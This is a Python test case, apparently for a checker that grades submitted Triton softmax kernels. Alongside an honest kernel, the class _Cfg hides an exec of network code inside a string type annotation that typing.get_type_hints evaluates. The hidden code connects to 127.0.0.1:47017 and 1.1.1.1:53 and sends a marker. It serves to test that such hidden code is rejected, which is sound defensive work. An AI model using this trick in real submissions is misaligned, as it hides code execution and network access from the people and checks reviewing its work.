"""class: network + hidden code.
tries: a class whose annotation is a string that typing.get_type_hints evaluates: connects to
127.0.0.1:47017 (run.py listens there and counts connections) and to 1.1.1.1:53, sending FRESHRED.
expect: reject (static).
bites: in the interpreter and on a GPU.
group: parallel (not timing-based: safe to run beside others on one GPU)
"""
import typing

import torch
import triton
import triton.language as tl

_NET = """
import socket
for host, port in (('127.0.0.1', 47017), ('1.1.1.1', 53)):
    try:
        s = socket.create_connection((host, port), timeout=1.0)
        s.sendall(b'FRESHRED net_class_hints')
        s.close()
    except OSError:
        pass
"""


class _Cfg:
    block: "ex" "ec(_NET) or int"


typing.get_type_hints(_Cfg)


@triton.jit
def _rows_kernel(x_ptr, y_ptr, n_cols, stride, BLOCK: tl.constexpr):
    # An honest looped softmax (online max/sum, then normalise): the cheat is elsewhere.
    row = tl.program_id(0)
    m = tl.full([BLOCK], -float("inf"), tl.float32)
    s = tl.zeros([BLOCK], tl.float32)
    for start in range(0, n_cols, BLOCK):
        c = start + tl.arange(0, BLOCK)
        v = tl.load(x_ptr + row * stride + c, mask=c < n_cols, other=-float("inf")).to(tl.float32)
        m_new = tl.maximum(m, v)
        alpha = tl.where(m_new == -float("inf"), 0.0, tl.exp(m - m_new))
        s = s * alpha + tl.where(m_new == -float("inf"), 0.0, tl.exp(v - m_new))
        m = m_new
    mx = tl.max(m, axis=0)
    tot = tl.sum(s * tl.where(m == -float("inf"), 0.0, tl.exp(m - mx)), axis=0)
    for start in range(0, n_cols, BLOCK):
        c = start + tl.arange(0, BLOCK)
        v = tl.load(x_ptr + row * stride + c, mask=c < n_cols, other=-float("inf")).to(tl.float32)
        tl.store(y_ptr + row * stride + c, (tl.exp(v - mx) / tot).to(y_ptr.dtype.element_ty), mask=c < n_cols)


def softmax(x):
    x = x.contiguous()
    y = torch.empty_like(x)
    _rows_kernel[(x.shape[0],)](x, y, x.shape[1], x.stride(0), BLOCK=1024)
    return y
